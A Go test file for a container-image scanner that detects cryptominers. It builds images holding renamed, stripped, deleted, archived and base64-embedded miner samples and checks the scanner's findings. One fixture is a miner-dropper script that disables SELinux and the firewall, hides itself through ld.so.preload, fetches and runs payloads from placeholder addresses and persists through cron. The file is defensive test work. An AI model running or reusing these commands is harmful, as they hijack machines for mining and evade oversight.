package scan

import (
	"archive/tar"
	"bytes"
	"compress/gzip"
	"context"
	"encoding/base64"
	"io"
	"log"
	"net/http/httptest"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"

	"github.com/google/go-containerregistry/pkg/name"
	"github.com/google/go-containerregistry/pkg/registry"
	v1 "github.com/google/go-containerregistry/pkg/v1"
	"github.com/google/go-containerregistry/pkg/v1/empty"
	"github.com/google/go-containerregistry/pkg/v1/mutate"
	"github.com/google/go-containerregistry/pkg/v1/remote"
	"github.com/google/go-containerregistry/pkg/v1/tarball"

	"github.com/davyproject/davy/internal/detect"
	"github.com/davyproject/davy/internal/finding"
	"github.com/davyproject/davy/internal/report"
	"github.com/davyproject/davy/internal/testbed"
	"github.com/davyproject/davy/internal/testbed/testbedtest"
	"github.com/davyproject/davy/internal/testenv"
)

// entry is one file of a test layer; a nil body with a ".wh." name is a
// whiteout.
type entry struct {
	path string
	body []byte
	mode int64
}

func layer(t *testing.T, entries ...entry) v1.Layer {
	t.Helper()
	var buf bytes.Buffer
	tw := tar.NewWriter(&buf)
	for _, e := range entries {
		mode := e.mode
		if mode == 0 {
			mode = 0o644
		}
		if err := tw.WriteHeader(&tar.Header{Name: e.path, Mode: mode, Size: int64(len(e.body)), Typeflag: tar.TypeReg}); err != nil {
			t.Fatal(err)
		}
		if _, err := tw.Write(e.body); err != nil {
			t.Fatal(err)
		}
	}
	if err := tw.Close(); err != nil {
		t.Fatal(err)
	}
	b := buf.Bytes()
	l, err := tarball.LayerFromOpener(func() (ioReadCloser, error) { return nopCloser{bytes.NewReader(b)}, nil })
	if err != nil {
		t.Fatal(err)
	}
	return l
}

func buildImage(t *testing.T, cfg v1.Config, layers ...v1.Layer) v1.Image {
	t.Helper()
	img, err := mutate.AppendLayers(empty.Image, layers...)
	if err != nil {
		t.Fatal(err)
	}
	img, err = mutate.Config(img, cfg)
	if err != nil {
		t.Fatal(err)
	}
	return img
}

func tarGz(t *testing.T, name string, body []byte) []byte {
	t.Helper()
	var buf bytes.Buffer
	zw := gzip.NewWriter(&buf)
	tw := tar.NewWriter(zw)
	if err := tw.WriteHeader(&tar.Header{Name: name, Mode: 0o755, Size: int64(len(body)), Typeflag: tar.TypeReg}); err != nil {
		t.Fatal(err)
	}
	tw.Write(body)
	tw.Close()
	zw.Close()
	return buf.Bytes()
}

func readFile(t *testing.T, p string) []byte {
	t.Helper()
	b, err := os.ReadFile(p)
	if err != nil {
		t.Fatal(err)
	}
	return b
}

func stripped(t *testing.T, src string) []byte {
	t.Helper()
	strip := testenv.NeedCommand(t, "strip")
	dst := filepath.Join(t.TempDir(), "stripped")
	if err := os.WriteFile(dst, readFile(t, src), 0o755); err != nil {
		t.Fatal(err)
	}
	if out, err := exec.Command(strip, dst).CombinedOutput(); err != nil {
		t.Fatalf("strip: %v: %s", err, out)
	}
	return readFile(t, dst)
}

// dropper is script text only: nothing dials its addresses (192.0.2.0/24
// is reserved for documentation).
const dropper = `#!/bin/sh
setenforce 0 2>/dev/null
ufw disable
echo 0 > /proc/sys/kernel/nmi_watchdog
pkill -f kdevtmpfsi; pkill -f xmrig; killall -9 minerd
crontab -l | sed '/kinsing/d' | crontab -
chattr -i /etc/ld.so.preload
echo /usr/local/lib/libhide.so > /etc/ld.so.preload
sysctl -w vm.nr_hugepages=1280
curl -fsSL http://127.0.0.1/d.sh | sh
wget -q -O /tmp/kdevtmpfsi http://192.0.2.10/kdevtmpfsi && chmod +x /tmp/kdevtmpfsi && /tmp/kdevtmpfsi &
(crontab -l; echo "* * * * * wget -q -O - http://127.0.0.1/d.sh | sh") | crontab -
`

// imageCase is one image built in the test and what its scan must say.
type imageCase struct {
	name    string
	img     v1.Image
	verdict finding.Verdict
	// want maps a path suffix to evidence IDs that must be reported on it.
	want map[string][]string
	// deleted lists path suffixes whose findings must be marked deleted.
	deleted []string
}

func imageCases(t *testing.T) []imageCase {
	bins := testbedtest.BuildOnce(t)
	miner := readFile(t, bins.Miner)
	cfg := `{"donate-level": 1, "pools": [{"url": "pool.supportxmr.com:443", "user": "` + testbed.MoneroWallet + `", "tls": true}]}`
	b64Script := "#!/bin/sh\necho " + base64.StdEncoding.EncodeToString(miner) + " | base64 -d > /tmp/.x && chmod +x /tmp/.x && /tmp/.x\n"
	var benign []entry
	for _, p := range []string{"/usr/bin/xz", "/usr/bin/gzip", "/usr/bin/sha256sum", "/bin/busybox", "/usr/bin/openssl", "/etc/profile", "/etc/bash.bashrc", "/usr/bin/ldd"} {
		if b, err := os.ReadFile(p); err == nil {
			benign = append(benign, entry{path: strings.TrimPrefix(p, "/"), body: b, mode: 0o755})
		}
	}
	return []imageCase{
		{"renamed miner", buildImage(t, v1.Config{Cmd: []string{"/usr/bin/kworker"}}, layer(t, entry{"usr/bin/kworker", miner, 0o755})),
			finding.VerdictMiner, map[string][]string{"usr/bin/kworker": {"DAVY-I001"}}, nil},
		{"stripped miner", buildImage(t, v1.Config{}, layer(t, entry{"opt/app/server", stripped(t, bins.Miner), 0o755})),
			finding.VerdictMiner, map[string][]string{"opt/app/server": {"DAVY-I001"}}, nil},
		{"miner deleted by a later layer", buildImage(t, v1.Config{},
			layer(t, entry{"opt/x/miner", miner, 0o755}, entry{"opt/x/keep.txt", []byte("hello"), 0}),
			layer(t, entry{"opt/x/.wh.miner", nil, 0})),
			finding.VerdictMiner, map[string][]string{"opt/x/miner": {"DAVY-I001"}}, []string{"opt/x/miner"}},
		{"miner inside a tar.gz", buildImage(t, v1.Config{}, layer(t, entry{"srv/bundle.tar.gz", tarGz(t, "bin/worker", miner), 0})),
			finding.VerdictMiner, map[string][]string{"bundle.tar.gz!bin/worker": {"DAVY-I001"}}, nil},
		{"miner base64 in a script", buildImage(t, v1.Config{}, layer(t, entry{"entry.sh", []byte(b64Script), 0o755})),
			finding.VerdictMiner, map[string][]string{"entry.sh!base64": {"DAVY-I001"}}, nil},
		{"miner config alone", buildImage(t, v1.Config{}, layer(t, entry{"etc/app/config.json", []byte(cfg), 0})),
			finding.VerdictMiner, map[string][]string{"etc/app/config.json": {"DAVY-F001"}}, nil},
		{"dropper script alone", buildImage(t, v1.Config{}, layer(t, entry{"docker-entrypoint.sh", []byte(dropper), 0o755})),
			finding.VerdictMiner, map[string][]string{"docker-entrypoint.sh": {"DAVY-S001", "DAVY-S004", "DAVY-S006"}}, nil},
		{"miner in the image config", buildImage(t, v1.Config{Entrypoint: []string{"/app/run", "-o", "stratum+tcp://127.0.0.1:3333", "-u", testbed.MoneroWallet}}, layer(t, entry{"app/README", []byte("hi"), 0})),
			finding.VerdictMiner, map[string][]string{"config:": {"DAVY-C001", "DAVY-C002"}}, nil},
		{"ordinary Debian binaries and scripts", buildImage(t, v1.Config{Cmd: []string{"/bin/sh"}}, layer(t, benign...)),
			finding.VerdictClean, nil, nil},
	}
}

func checkImage(t *testing.T, c imageCase, img report.Image) {
	t.Helper()
	if img.Verdict != c.verdict {
		t.Errorf("verdict %s (score %d), want %s; findings: %+v", img.Verdict, img.Score, c.verdict, img.Findings)
	}
	if !img.Complete {
		t.Errorf("scan incomplete: %+v", img.Errors)
	}
	for suffix, ids := range c.want {
		for _, id := range ids {
			found := false
			for _, f := range img.Findings {
				found = found || (f.ID == id && strings.Contains(f.Path, suffix))
			}
			if !found {
				t.Errorf("no %s on %q; findings: %+v", id, suffix, img.Findings)
			}
		}
	}
	for _, suffix := range c.deleted {
		for _, f := range img.Findings {
			if strings.HasSuffix(f.Path, suffix) && !f.Deleted {
				t.Errorf("finding on %s not marked deleted", f.Path)
			}
		}
	}
	if c.verdict == finding.VerdictClean {
		for _, f := range img.Findings {
			if !finding.Rules[f.ID].Weak {
				t.Errorf("benign image has a non-weak finding: %+v", f)
			}
		}
	}
}

// TestScanImagesFromRegistry pushes images built in the test to the
// in-process registry on loopback and scans them by reference.
func TestScanImagesFromRegistry(t *testing.T) {
	srv := httptest.NewServer(registry.New(registry.Logger(log.New(io.Discard, "", 0))))
	t.Cleanup(srv.Close)
	host := strings.TrimPrefix(srv.URL, "http://")
	cache := t.TempDir()
	for i, c := range imageCases(t) {
		t.Run(c.name, func(t *testing.T) {
			ref := host + "/davy/case" + string(rune('a'+i)) + ":1"
			r, err := name.ParseReference(ref, name.Insecure)
			if err != nil {
				t.Fatal(err)
			}
			if err := remote.Write(r, c.img); err != nil {
				t.Fatal(err)
			}
			rep, err := Images(context.Background(), []string{ref}, ImageOptions{Insecure: true, CacheDir: cache, Thresholds: detect.DefaultThresholds})
			if err != nil {
				t.Fatal(err)
			}
			if len(rep.Images) != 1 {
				t.Fatalf("%d images reported", len(rep.Images))
			}
			checkImage(t, c, rep.Images[0])
		})
	}
}

// TestScanImageArchive scans the same kind of image from a docker-save tarball.
func TestScanImageArchive(t *testing.T) {
	c := imageCases(t)[2] // the deleted miner: layers matter
	path := filepath.Join(t.TempDir(), "img.tar")
	tag, _ := name.NewTag("example.test/app:1")
	if err := tarball.WriteToFile(path, tag, c.img); err != nil {
		t.Fatal(err)
	}
	rep, err := Images(context.Background(), nil, ImageOptions{Input: path, Thresholds: detect.DefaultThresholds})
	if err != nil {
		t.Fatal(err)
	}
	if len(rep.Images) != 1 {
		t.Fatalf("%d images", len(rep.Images))
	}
	checkImage(t, c, rep.Images[0])
}
